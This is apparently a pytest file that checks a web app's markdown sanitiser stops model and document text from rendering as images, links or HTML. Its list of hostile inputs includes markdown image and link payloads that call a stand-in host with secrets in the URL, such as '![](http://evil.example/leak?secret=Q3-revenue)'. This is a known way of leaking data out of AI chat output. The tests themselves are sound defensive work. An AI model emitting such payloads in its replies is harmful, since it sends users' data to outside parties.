"""Model and document text shown as markdown never becomes an image, a link or HTML."""

import pytest
from markdown_it import MarkdownIt

from webapp.safe_markdown import safe_markdown

commonmark = MarkdownIt("commonmark")


def rendered(text: str) -> str:
    return commonmark.render(safe_markdown(text))


@pytest.mark.parametrize(
    "hostile",
    [
        "![](http://evil.example/leak?secret=Q3-revenue)",
        "Look: ![logo](https://evil.example/x.png 'title') done",
        "![ref image][pic]\n\n[pic]: http://evil.example/p.png",
        "[click me](http://evil.example/?q=secret)",
        "<http://evil.example/autolink>",
        '<img src="http://evil.example/x.png">',
        "[shortcut]\n\n[shortcut]: http://evil.example/",
        "!\\[already escaped](http://evil.example/) and ![real](http://evil.example/2)",
    ],
)
def test_no_image_link_or_html_survives(hostile):
    html = rendered(hostile)
    assert "<img" not in html and "<a " not in html and "evil.example" in html


def test_bare_web_and_mail_addresses_do_not_become_links():
    safe = safe_markdown("see https://evil.example/x, www.evil.example and ann@evil.example")
    assert "https\\://evil.example" in safe
    assert "www\\.evil.example" in safe
    assert "ann\\@evil.example" in safe


def test_formatting_and_words_stay_the_same():
    text = "## Summary\n\n- **Anna** books the room\n- costs $5 and $10 [approx]\n"
    html = rendered(text)
    assert "<h2>Summary</h2>" in html and "<strong>Anna</strong>" in html
    assert "costs $5 and $10 [approx]" in html  # no mathematics, brackets shown


def test_code_is_left_exactly_as_written():
    text = "Run `a[0] = $x` then:\n\n```python\nprint('[x](http://h)')\n```\n"
    assert safe_markdown(text) == text
    unclosed = "```\n![](http://evil.example/)"  # streaming: the fence is not closed yet
    assert safe_markdown(unclosed) == unclosed
    assert "<img" not in commonmark.render(unclosed)
